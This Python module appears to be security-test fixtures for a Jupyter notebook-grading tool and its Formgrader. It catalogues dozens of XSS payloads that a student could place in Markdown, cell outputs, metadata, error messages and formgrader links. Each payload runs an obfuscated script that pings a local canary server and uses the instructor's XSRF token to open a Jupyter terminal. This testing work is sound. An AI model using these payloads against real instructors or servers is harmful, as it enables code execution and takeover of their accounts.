"""What students put into pages that an instructor opens, and a server that notices.

Every attack calls `fire(NAME)`: it asks a server of the test's, by name, and opens a
terminal through the API of the Jupyter server that shows the page, as the instructor.
Those that need a click are clicked on.
"""

import base64
import contextlib
import io
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from PIL import Image

SCRIPT = """
fetch('http://127.0.0.1:PORT/NAME', {mode: 'no-cors'});
fetch('/api/terminals', {method: 'POST', headers: {'X-XSRFToken':
  (document.cookie.match(/_xsrf=([^;]*)/) || [])[1]}});
"""


@dataclass
class Canary:
    """A server that is called only if an attack succeeds.

    Attributes:
        port: Where it listens.
        called: The names of the attacks that called.
    """

    port: int = 0
    called: set[str] = field(default_factory=set)


@contextlib.contextmanager
def keep_canary() -> Iterator[Canary]:
    """Runs a server that notes by which names it is called."""
    canary = Canary()

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self):
            canary.called.add(self.path.strip("/"))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        canary.port = server.server_port
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield canary
        server.shutdown()


def fire(name: str, canary: Canary) -> str:
    """Returns a script that attacks; without quotes, it fits everywhere."""
    script = SCRIPT.replace("PORT", str(canary.port)).replace("NAME", name)
    return f"eval(String.fromCharCode({','.join(str(ord(c)) for c in script)}))"


def fire_briefly(name: str, canary: Canary) -> str:
    """Returns a script that only calls, short enough for the name of a folder."""
    address = f"//127.0.0.1:{canary.port}/{name}"
    return f"fetch(atob('{base64.b64encode(address.encode()).decode()}'))"


def draw(color: str) -> str:
    """Returns a small picture in one color, as PNG in base64."""
    file = io.BytesIO()
    Image.new("RGB", (24, 16), color).save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


# In Markdown, a cell of its own each. FIRE is the script, CANARY an address.
MARKDOWN = {
    "script": "<script>FIRE</script>",
    "script in a block": "<div>\n\n<script>FIRE</script>\n\n</div>",
    "image that fails": "<img src=x onerror=FIRE>",
    "image with many attributes": "<img alt='a' src='data:x' onerror='FIRE'>",
    "image cut short": "text\n\n<img src=x onerror=FIRE ",
    "slash in place of a space": "<img/src=x/onerror=FIRE>",
    "capital letters": "<ScRiPt>FIRE</sCrIpT>",
    "frame with a page": '<iframe srcdoc="<script>parent.FIRE</script>"></iframe>',
    "frame with an address": '<iframe src="javascript:parent.FIRE"></iframe>',
    "object": '<object data="javascript:FIRE"></object><embed src="javascript:FIRE">',
    "svg": "<svg onload=FIRE></svg>",
    "svg that animates": "<svg><animate onbegin=FIRE attributeName=x dur=1s></svg>",
    "svg with html in it": "<svg><foreignObject><img src=x onerror=FIRE>"
    "</foreignObject></svg>",
    "math": "<math><mtext><img src=x onerror=FIRE></mtext></math>",
    "details": "<details open ontoggle=FIRE>more</details>",
    "audio": "<audio src=x onerror=FIRE>",
    "video": "<video><source onerror=FIRE></video>",
    "focus": "<input autofocus onfocus=FIRE>",
    "style": "<style>@keyframes x{} </style><b style='animation-name:x' "
    "onanimationstart=FIRE>b</b>",
    "comment": "<!-- --!><img src=x onerror=FIRE> -->",
    "processing instruction": "<?x ><img src=x onerror=FIRE>?>",
    "cdata": "<svg><![CDATA[><img src=x onerror=FIRE>]]></svg>",
    "title of a link": """[x](y "'><img src=x onerror=FIRE>")""",
    "title of an image": """![x](y "><img src=x onerror=FIRE>")""",
    "text of an image": "![<img src=x onerror=FIRE>](y)",
    "diagram": "```mermaid\n<img src=x onerror=FIRE>\n```",
    "formula": "$<img src=x onerror=FIRE>$ and $$<img src=x onerror=FIRE>$$",
    "heading": "# <img src=x onerror=FIRE>",
    "table": "|a|b|\n|-|-|\n|<img src=x onerror=FIRE>|b|",
    "definition": "[x]: y '<img src=x onerror=FIRE>'\n\n[x]",
    "entities": "&lt;img src=x onerror=FIRE&gt; &#60;img src=x onerror=FIRE&#62;",
    "picture from elsewhere": '<img src="CANARY">',
    "picture from elsewhere, in Markdown": "![figure](CANARY)",
    "style from elsewhere": '<link rel="stylesheet" href="CANARY">',
    "redirection": '<base href="CANARY"><b style="background: url(CANARY)">b</b>',
    "code for the cells' names": '<img name="x"><script id="written">FIRE</script>',
}
PAGE = "link to a file of the submission"
CLICKED = {
    "link": "[link](javascript:FIRE)",
    "link in angles": "[link](<javascript:FIRE>)",
    "link with entities": "[link](&#106;avascript:FIRE)",
    "link with capitals": "[link](JaVaScRiPt:FIRE)",
    "link by reference": "[link][there]\n\n[there]: javascript:FIRE",
    "link in brackets": "<javascript:FIRE>",
    "link as html": '<a href="javascript:FIRE">link</a>',
    "link with a tab": '<a href="java&#9;script:FIRE">link</a>',
    "button": "<button onclick=FIRE>link</button>",
    "form": '<form action="javascript:FIRE"><button>link</button></form>',
    PAGE: "[link](page.html)",
}
OUTPUTS = {
    "html": {"text/html": "<script>FIRE</script>"},
    "html with a failing image": {"text/html": "<img src=x onerror=FIRE>"},
    "html with a frame": {
        "text/html": '<iframe srcdoc="<script>parent.FIRE</script>"></iframe>'
    },
    "html that leads elsewhere": {"text/html": "<img src='CANARY'>"},
    "javascript": {"application/javascript": "FIRE"},
    "svg as an output": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='FIRE'/>"
    },
    "markdown": {"text/markdown": "<img src=x onerror=FIRE>"},
    "latex": {"text/latex": "$x$<img src=x onerror=FIRE>"},
    "text": {"text/plain": "<img src=x onerror=FIRE>"},
    "png that is none": {"image/png": "AAAA'><img src=x onerror=FIRE>"},
    "jpeg that is none": {"image/jpeg": '"><img src=x onerror=FIRE>'},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {
            "model_id": "</script><img src=x onerror=FIRE>"
        },
        "text/plain": "w",
    },
    "mermaid": {"text/vnd.mermaid": "<img src=x onerror=FIRE>", "text/plain": "m"},
    "unknown": {"text/x-<img src=x onerror=FIRE>": "x", "text/plain": "u"},
}
# What comes with an output, for a picture that is one.
METADATA = {
    "width": {"image/png": {"width": "1 onload=FIRE"}},
    "height": {"height": "1 onload=FIRE"},
    "text of the picture": {"image/png": {"alt": '"><img src=x onerror=FIRE>'}},
    "file names": {"filenames": {"image/png": 'x" onerror="FIRE'}},
    "isolation": {"text/html": {"isolated": True}},
}


# What the answer of an exercise raises; it gets into the report, too.
MESSAGES = {
    "message": "def double(x):\n    raise ValueError('<img src=x onerror=FIRE>')",
    "kind of an error": "def triple(x):\n"
    "    raise type('<img src=x onerror=FIRE>', (Exception,), {})('no')",
}
# What a link may lead to that somebody sends to an instructor, below formgrader/.
SENT = {
    "link to a student": "manage_students/<img src=x onerror=FIRE>",
    "link to a student, within a script": 'manage_students/";FIRE;"',
    "link to a student's work": "manage_students/x/<svg onload=FIRE>",
    "link to an assignment": "manage_submissions/<img src=x onerror=FIRE>",
    "link to work to be graded": "gradebook/<img src=x onerror=FIRE>",
    "link to a notebook to be graded": "gradebook/x/<details open ontoggle=FIRE>",
}
# Opening this address makes the Formgrader run a file of the submission: its settings.
SETTINGS = "pictures that load settings"
LOADED = "![x](/formgrader?path=FOLDER) <img src='/formgrader?path=FOLDER'>"


def fill(attack: object, name: str, canary: Canary) -> object:
    """Returns an attack with its script and the canary's address in it."""
    address = f"http://127.0.0.1:{canary.port}/{name}"
    text = json.dumps(attack).replace("FIRE", fire(name, canary))
    return json.loads(text.replace("CANARY", address))
